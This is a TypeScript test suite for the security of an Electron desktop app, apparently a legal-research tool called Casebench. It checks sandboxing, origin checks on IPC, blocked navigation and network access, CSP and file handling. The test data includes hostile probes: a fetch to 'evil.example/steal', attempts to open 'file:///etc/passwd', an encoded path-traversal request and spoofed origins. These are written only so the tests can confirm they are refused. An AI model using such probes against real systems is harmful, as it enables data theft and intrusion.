import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
// For the type of window.casebenchHost.
import type {} from '../../../renderer/client/host-electron';
import type { ShownDialog, WindowRecord } from '../../support/electron-stand-in/control';
import { type Desktop, launchDesktop } from '../../support/electron-stand-in/launch';

let desktop: Desktop;
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'casebench-desktop-test-'));
  await writeFile(join(folder, 'ruling.txt'), 'No provider shall be treated as the publisher.');
  await writeFile(join(folder, 'second.txt'), 'Through legislation, not through litigation.');
  desktop = await launchDesktop({ library: join(folder, 'library'), args: [join(folder, 'ruling.txt')] });
});
afterAll(() => desktop?.close());

const call = (name: string, input: unknown) =>
  desktop.page.evaluate(([name, input]) => window.casebenchHost?.call(name as never, input as never), [
    name,
    input,
  ] as const);

describe('the desktop window', () => {
  it('is sandboxed, isolated, without Node, web views or the spelling dictionaries of a server', async () => {
    const [window, ...others] = await desktop.ask<WindowRecord[]>({ do: 'windows' });
    expect(others).toEqual([]);
    expect(window).toMatchObject({ title: 'Casebench', url: 'casebench://app/' });
    expect(window?.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webviewTag: false,
      spellcheck: process.platform === 'darwin',
    });
  });

  it('is shown once it has something to show', async () => {
    await expect.poll(() => desktop.ask({ do: 'windows' })).toMatchObject([{ shown: true }]);
  });

  it('shows its page the seam of a host, and nothing else of Electron or Node', async () => {
    const seen = await desktop.page.evaluate(() => ({
      host: Object.keys(window.casebenchHost ?? {}).sort(),
      others: ['require', 'process', 'module', 'electron', 'standInInvoke', 'ipcRenderer'].filter(
        (name) => name in window,
      ),
    }));
    expect(seen.host).toEqual([
      'call',
      'chooseFiles',
      'fileUrl',
      'kind',
      'onCommand',
      'onReach',
      'openLibrary',
      'recentLibraries',
      'saveFile',
      'stageFile',
      'subscribe',
    ]);
    expect(seen.others).toEqual([]);
  });

  it('carries calls to the library and back', async () => {
    expect(await call('sources.counts', {})).toEqual({ ok: true, value: { all: 0, inbox: 0, recent: 0, bin: 0 } });
    expect(await call('sources.get', { id: 'none' })).toMatchObject({ ok: false, code: 'not-found' });
    expect(await call('constructor', {})).toMatchObject({ ok: false, code: 'invalid' });
  });

  it('tells the page what changed', async () => {
    const heard = desktop.page.evaluate(
      () =>
        new Promise((done) => {
          const end = window.casebenchHost?.subscribe((event) => {
            // The library says things of its own too, at its own time.
            if (event.type !== 'changed' || !event.nouns.includes('tags')) return;
            end?.();
            done(event);
          });
        }),
    );
    await call('tags.create', { name: 'immunity' });
    expect(await heard).toMatchObject({ type: 'changed', nouns: expect.arrayContaining(['tags']) });
  });
});

describe('what a page cannot do', () => {
  it('leave for another address', async () => {
    const { page } = desktop;
    for (const address of ['https://evil.example/', 'casebench://evil/', 'file:///etc/passwd']) {
      await page.evaluate((to) => {
        const link = document.createElement('a');
        link.href = to;
        document.body.append(link);
        link.click();
        link.remove();
      }, address);
      await page.waitForTimeout(100);
      expect(page.url()).toMatch(/^https:\/\/casebench\.invalid\//);
    }
  });

  it('open a window; an address of the web is offered to the browser of the person, who may decline', async () => {
    const open = (url: string) => desktop.page.evaluate((to) => void window.open(to), url);
    await open('https://www.congress.gov/');
    await expect
      .poll(async () => (await desktop.ask<ShownDialog[]>({ do: 'dialogs' })).at(-1)?.detail)
      .toBe('https://www.congress.gov/');
    expect(await desktop.ask({ do: 'opened-externally' })).toEqual([]);
    await desktop.ask({ do: 'script-dialog', answer: { button: 0 } });
    await open('https://www.govinfo.gov/');
    await expect.poll(() => desktop.ask({ do: 'opened-externally' })).toEqual(['https://www.govinfo.gov/']);
    const before = (await desktop.ask<ShownDialog[]>({ do: 'dialogs' })).length;
    await open('file:///etc/passwd');
    await desktop.page.waitForTimeout(200);
    expect((await desktop.ask<ShownDialog[]>({ do: 'dialogs' })).length).toBe(before);
    expect(await desktop.ask<WindowRecord[]>({ do: 'windows' })).toHaveLength(1);
  });

  it('reach the network, by fetch or by picture', async () => {
    const outcome = await desktop.page.evaluate(async () => {
      const fetched = await fetch('https://evil.example/steal').then(
        () => 'reached',
        () => 'refused',
      );
      const drawn = await new Promise((done) => {
        const image = new Image();
        image.onload = () => done('reached');
        image.onerror = () => done('refused');
        image.src = 'https://evil.example/pixel.png';
      });
      return [fetched, drawn];
    });
    expect(outcome).toEqual(['refused', 'refused']);
  });

  it('have a permission', async () => {
    for (const permission of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal'])
      expect(await desktop.ask({ do: 'may', permission })).toEqual({ request: false, check: false });
  });

  it('speak for the window from a foreign address, or from a frame inside it', async () => {
    const asked = { do: 'invoke-as', channel: 'casebench:call', args: ['sources.counts', {}] } as const;
    const refused = { $: 'object', entries: expect.arrayContaining([['ok', false]]) };
    for (const [url, topFrame] of [
      ['https://evil.example/', true],
      ['casebench://evil/', true],
      ['casebench://app.evil/', true],
      ['file:///casebench://app/', true],
      ['', true],
      ['casebench://app/', false],
    ] as const)
      expect(await desktop.ask({ ...asked, url, topFrame })).toEqual({ value: refused });
    expect(await desktop.ask({ ...asked, url: 'casebench://app/', topFrame: true })).toMatchObject({
      value: { entries: expect.arrayContaining([['ok', true]]) },
    });
  });
});

describe('files', () => {
  it('of the page come from the program, with a policy that lets only its own scripts run', async () => {
    const policy = await desktop.page.evaluate(async () => {
      const answer = await fetch('/');
      return [answer.status, answer.headers.get('content-security-policy')];
    });
    expect(policy[0]).toBe(200);
    expect(policy[1]).toContain("script-src 'self' 'wasm-unsafe-eval';");
    expect(await desktop.page.evaluate(async () => (await fetch('/..%2f..%2fpackage.json')).status)).toBe(404);
  });

  it('chosen in the native dialog, or handed over by an input, become tokens; the page sees no path', async () => {
    await desktop.ask({ do: 'script-dialog', answer: { open: [join(folder, 'ruling.txt')] } });
    const chosen = await desktop.page.evaluate(() => window.casebenchHost?.chooseFiles?.('files'));
    expect(chosen).toMatchObject({ ok: true, value: [{ name: 'ruling.txt', token: expect.any(String) }] });
    expect(JSON.stringify(chosen)).not.toContain(folder);
    expect(await desktop.page.evaluate(() => window.casebenchHost?.chooseFiles?.('folder'))).toEqual({
      ok: true,
      value: [],
    });
    const pasted = await desktop.page.evaluate(() =>
      window.casebenchHost?.stageFile(new File(['§ 230'], '../pasted.txt')),
    );
    expect(pasted).toMatchObject({ ok: true, value: { name: 'pasted.txt', token: expect.any(String) } });
  });

  it('are saved where the person says, and not at all when they think better of it', async () => {
    const staged = await desktop.page.evaluate(() =>
      window.casebenchHost?.stageFile(new File(['a result'], 'result.txt')),
    );
    const token = staged?.ok ? staged.value.token : '';
    const save = () => desktop.page.evaluate((token) => window.casebenchHost?.saveFile(token, 'result.txt'), token);
    expect(await save()).toEqual({ ok: true, value: { saved: false, where: null } });
    const to = join(folder, 'saved.txt');
    await desktop.ask({ do: 'script-dialog', answer: { save: to } });
    expect(await save()).toEqual({ ok: true, value: { saved: true, where: to } });
    expect(await readFile(to, 'utf8')).toBe('a result');
    await desktop.ask({ do: 'script-dialog', answer: { save: join(folder, 'no/such/folder/x.txt') } });
    expect(await save()).toMatchObject({ ok: false, code: 'conflict' });
  });
});

describe('the menu and the system', () => {
  beforeAll(() =>
    desktop.page.evaluate(() => {
      Object.assign(window, { heard: [] });
      window.casebenchHost?.onCommand((command) => (window as unknown as { heard: string[] }).heard.push(command));
    }),
  );
  const heard = () => desktop.page.evaluate(() => (window as unknown as { heard: string[] }).heard.at(-1));

  it('send commands to the window', async () => {
    await desktop.ask({ do: 'click-menu', path: ['Edit', 'Undo'] });
    await expect.poll(heard).toBe('undo');
  });

  it('hand over files to open: of a second start, and of the Finder', async () => {
    await desktop.ask({ do: 'emit-second-instance', argv: ['electron', '.', '--flag', 'ruling.txt'], folder });
    await expect.poll(heard).toMatch(/^open-files:\[\{"token":"[^"]+","name":"ruling\.txt"\}\]$/);
    await desktop.ask({ do: 'emit-open-file', path: join(folder, 'second.txt') });
    await expect.poll(heard).toMatch(/"name":"second\.txt"/);
  });
});

describe('one library', () => {
  it('is refused to a second program, in words', async () => {
    await expect(launchDesktop({ library: join(folder, 'library') })).rejects.toThrow(/already open/);
  });
});
